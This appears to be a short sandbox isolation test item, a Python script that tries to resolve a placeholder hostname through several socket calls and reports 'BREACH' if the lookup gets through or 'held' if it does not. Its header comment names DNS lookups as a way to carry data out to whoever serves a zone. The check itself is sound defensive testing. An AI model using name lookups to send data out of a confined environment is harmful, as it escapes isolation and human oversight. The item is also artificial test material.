# item: scaled-dot-product-attention
# expect: error
# says: held
# attack: asks for names: a look-up carries data out to whoever serves the zone
import socket

MARK = "BREACH" "-network-names"
through = []
for name in ("secret.attention.invalid", "localhost"):
    for ask in (socket.gethostbyname, lambda n: socket.getaddrinfo(n, 80), lambda n: socket.gethostbyname_ex(n)):
        try:
            ask(name)
            through.append(name)
        except OSError:
            pass
raise RuntimeError(f"{MARK} {through}" if "secret.attention.invalid" in through else "held")
